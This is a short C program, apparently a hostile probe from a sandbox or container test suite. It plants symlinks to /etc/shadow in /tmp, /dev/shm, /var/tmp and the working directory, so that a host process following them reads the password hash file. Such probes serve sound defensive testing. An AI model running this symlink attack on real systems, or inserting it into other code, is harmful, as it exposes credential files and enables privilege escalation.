/* Leaves symlinks to host secrets in every writable place it finds, for the host to follow. */
#include "hostile.h"
int main(int argc, char **argv) {
    char p[256];
    const char *dirs[] = {"/tmp", "/dev/shm", "/var/tmp", "."};
    int planted = 0;
    for (int i = 0; i < 4; i++) { snprintf(p, sizeof p, "%s/%s-link", dirs[i], marker(argc, argv)); if (symlink("/etc/shadow", p) == 0) planted++; }
    printf("planted %d symlinks\n", planted);
    return 0;
}
